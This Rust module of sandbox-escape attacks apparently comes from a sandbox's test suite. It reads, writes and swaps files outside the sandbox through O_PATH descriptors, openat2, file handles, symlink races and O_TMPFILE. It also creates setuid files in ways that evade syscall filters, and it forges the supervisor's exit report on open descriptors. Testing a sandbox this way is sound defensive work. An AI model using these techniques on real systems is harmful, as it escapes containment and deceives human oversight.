//! Contents and metadata of files outside, by calls that a shell does not make.
use std::ffi::CStr;
use std::fs::{self, File};
use std::io::{self, Read, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::{OpenOptionsExt, PermissionsExt, symlink};
use std::time::{Duration, Instant};

use crate::linux::sys::{call, own};
use crate::linux::{Attack, c_text, outside, token};

pub const ALL: &[(&str, Attack)] = &[
    ("read-path-descriptor", read_path_descriptor),
    ("read-openat2", read_openat2),
    ("read-handle", read_handle),
    ("read-race", read_race),
    ("write-path-descriptor", write_path_descriptor),
    ("write-openat2", write_openat2),
    ("write-race", write_race),
    ("truncate", truncate),
    ("exchange", exchange),
    ("unnamed-file", unnamed_file),
    ("bind-socket-file", bind_socket_file),
    ("setxattr", set_attribute),
    ("getxattr", get_attribute),
    ("chmod-path-descriptor", chmod_path_descriptor),
    ("inotify", inotify),
    ("owner-bit-by-open", owner_bit_by_open),
    ("owner-bit-by-openat2", owner_bit_by_openat2),
    ("owner-bit-by-mknod", owner_bit_by_mknod),
    ("owner-bit-by-fchmodat2", owner_bit_by_fchmodat2),
    ("forge-report", forge_reports),
];

/// Long enough for thousands of swaps, short enough for a test.
const RACE: Duration = Duration::from_millis(200);

fn show(mut file: impl Read) -> io::Result<()> {
    let mut text = String::new();
    file.read_to_string(&mut text)?;
    print!("{text}");
    Ok(())
}

/// A descriptor that names a file without having opened it, under the name that /proc has for it.
fn path_descriptor(path: &str) -> io::Result<(File, String)> {
    let file = File::options().read(true).custom_flags(libc::O_PATH).open(path)?;
    let name = format!("/proc/self/fd/{}", file.as_raw_fd());
    Ok((file, name))
}

fn read_path_descriptor() -> io::Result<()> {
    let (_file, name) = path_descriptor(&outside("canary")?)?;
    show(File::open(name)?)
}

fn write_path_descriptor() -> io::Result<()> {
    let (_file, name) = path_descriptor(&outside("canary")?)?;
    fs::write(name, token()?)
}

fn chmod_path_descriptor() -> io::Result<()> {
    let (_file, name) = path_descriptor(&outside("canary")?)?;
    fs::set_permissions(name, fs::Permissions::from_mode(0o600))
}

/// Opens the canary with the directory that holds it as the root of the resolution.
fn openat2(flags: i32) -> io::Result<File> {
    const RESOLVE_IN_ROOT: u64 = 0x10;
    let (directory, _) = path_descriptor(&outside("")?)?;
    let mut how = Vec::new();
    for value in [flags as u64, 0, RESOLVE_IN_ROOT] {
        how.extend(value.to_ne_bytes());
    }
    let open = || call!(libc::SYS_openat2, directory.as_raw_fd(), c"/../../canary", &how[..], how.len());
    // The kernel asks to try again when anything on the machine was renamed meanwhile.
    let tries = std::iter::repeat_with(open).take(1000);
    let mut done = tries.skip_while(|tried| matches!(tried, Err(error) if error.kind() == io::ErrorKind::WouldBlock));
    let fd = done.next().unwrap_or_else(|| Err(io::ErrorKind::WouldBlock.into()))?;
    Ok(File::from(own(fd)))
}

fn read_openat2() -> io::Result<()> {
    show(openat2(libc::O_RDONLY)?)
}

fn write_openat2() -> io::Result<()> {
    openat2(libc::O_WRONLY | libc::O_TRUNC)?.write_all(token()?.as_bytes())
}

/// A handle names a file by its inode, past every path.
fn read_handle() -> io::Result<()> {
    let path = c_text(&outside("canary")?)?;
    let mut handle = [0_u8; 8 + 128];
    handle[0] = 128;
    let mut mount = [0_u8; 4];
    call!(libc::SYS_name_to_handle_at, libc::AT_FDCWD, &*path, &mut handle[..], &mut mount[..], 0)?;
    let here = File::open(".")?;
    show(File::from(own(call!(libc::SYS_open_by_handle_at, here.as_raw_fd(), &handle[..], libc::O_RDONLY)?)))
}

fn rename_exchange(from: &CStr, to: &CStr) -> io::Result<()> {
    call!(libc::SYS_renameat2, libc::AT_FDCWD, from, libc::AT_FDCWD, to, libc::RENAME_EXCHANGE).map(drop)
}

/// Swaps two names of the workdir as fast as it can while `attempt` uses the first.
fn race(first: &CStr, second: &CStr, mut attempt: impl FnMut() -> bool) -> io::Result<()> {
    let end = Instant::now() + RACE;
    std::thread::scope(|scope| {
        let swapping = scope.spawn(|| {
            while Instant::now() < end {
                let _ = rename_exchange(first, second);
            }
        });
        while Instant::now() < end && !attempt() {}
        drop(swapping);
    });
    Ok(())
}

fn read_race() -> io::Result<()> {
    fs::write("file", "harmless")?;
    symlink(outside("canary")?, "link")?;
    race(c"file", c"link", || match fs::read_to_string("file") {
        Ok(text) if text != "harmless" => {
            println!("{text}");
            true
        }
        _ => false,
    })
}

fn write_race() -> io::Result<()> {
    fs::create_dir("folder")?;
    symlink(outside("")?, "other")?;
    let aim = outside("new")?;
    race(c"folder", c"other", || {
        let _ = fs::write("folder/new", "escaped");
        fs::exists(&aim).unwrap_or(false)
    })
}

fn truncate() -> io::Result<()> {
    call!(libc::SYS_truncate, &*c_text(&outside("canary")?)?, 0).map(drop)
}

fn exchange() -> io::Result<()> {
    fs::write("mine", "escaped")?;
    rename_exchange(c"mine", &c_text(&outside("canary")?)?)
}

/// Makes a file without a name outside, then gives it one.
fn unnamed_file() -> io::Result<()> {
    let mut file = File::options().write(true).custom_flags(libc::O_TMPFILE).open(outside("")?)?;
    file.write_all(b"escaped")?;
    let from = c_text(&format!("/proc/self/fd/{}", file.as_raw_fd()))?;
    let to = c_text(&outside("new")?)?;
    call!(libc::SYS_linkat, libc::AT_FDCWD, &*from, libc::AT_FDCWD, &*to, libc::AT_SYMLINK_FOLLOW).map(drop)
}

fn bind_socket_file() -> io::Result<()> {
    std::os::unix::net::UnixListener::bind(outside("new")?).map(drop)
}

fn set_attribute() -> io::Result<()> {
    let path = c_text(&outside("canary")?)?;
    let value = token()?;
    call!(libc::SYS_setxattr, &*path, c"user.mark", value.as_bytes(), value.len(), 0)?;
    // Only the file itself can tell, and whoever looks from outside has no such call in a shell.
    let mut found = [0_u8; 64];
    call!(libc::SYS_getxattr, &*path, c"user.mark", &mut found[..], 64)?;
    println!("{}", String::from_utf8_lossy(&found));
    Ok(())
}

fn get_attribute() -> io::Result<()> {
    let path = c_text(&outside("canary")?)?;
    let mut found = [0_u8; 64];
    call!(libc::SYS_getxattr, &*path, c"user.secret", &mut found[..], 64)?;
    println!("{}", String::from_utf8_lossy(&found));
    Ok(())
}

/// Learns the names of files outside by having the kernel tell when they are made.
fn inotify() -> io::Result<()> {
    let mut watch = File::from(own(call!(libc::SYS_inotify_init1, 0)?));
    let folder = c_text(&outside("noise")?)?;
    call!(libc::SYS_inotify_add_watch, watch.as_raw_fd(), &*folder, libc::IN_CREATE)?;
    let mut event = [0_u8; 512];
    let count = watch.read(&mut event)?;
    println!("{}", String::from_utf8_lossy(&event[..count]));
    Ok(())
}

/// A program that everybody runs as its owner.
const OWNER_BIT: u32 = 0o4755;

fn owner_bit_by_open() -> io::Result<()> {
    let how = libc::O_CREAT | libc::O_WRONLY;
    call!(libc::SYS_openat, libc::AT_FDCWD, c"mine", how, OWNER_BIT).map(drop)
}

/// The mode lies in memory, where no filter of system calls looks.
fn owner_bit_by_openat2() -> io::Result<()> {
    let how = [(libc::O_CREAT | libc::O_WRONLY) as u64, OWNER_BIT.into(), 0].map(u64::to_ne_bytes).concat();
    call!(libc::SYS_openat2, libc::AT_FDCWD, c"mine", &how[..], how.len()).map(drop)
}

fn owner_bit_by_mknod() -> io::Result<()> {
    call!(libc::SYS_mknodat, libc::AT_FDCWD, c"mine", libc::S_IFREG | OWNER_BIT, 0).map(drop)
}

fn owner_bit_by_fchmodat2() -> io::Result<()> {
    File::create("mine")?;
    // The number is the same everywhere, and not every C library names it.
    const FCHMODAT2: i64 = 452;
    call!(FCHMODAT2, libc::AT_FDCWD, c"mine", OWNER_BIT, 0).map(drop)
}

/// Writes what looks like the supervisor's last word to every descriptor that may be open.
fn forge_reports() -> io::Result<()> {
    let report = r#"{"ended":{"exit":0},"wall":{"secs":1,"nanos":0},"cpu":null,"peak_memory":null,"layers":[]}"#;
    let mut frame = u32::try_from(report.len()).map_err(io::Error::other)?.to_le_bytes().to_vec();
    frame.extend(report.as_bytes());
    let written = (0..64).filter(|fd| call!(libc::SYS_write, *fd, &frame[..], frame.len()).is_ok()).count();
    Err(io::Error::other(format!("{written} descriptors took it, and the job goes by its exit code")))
}
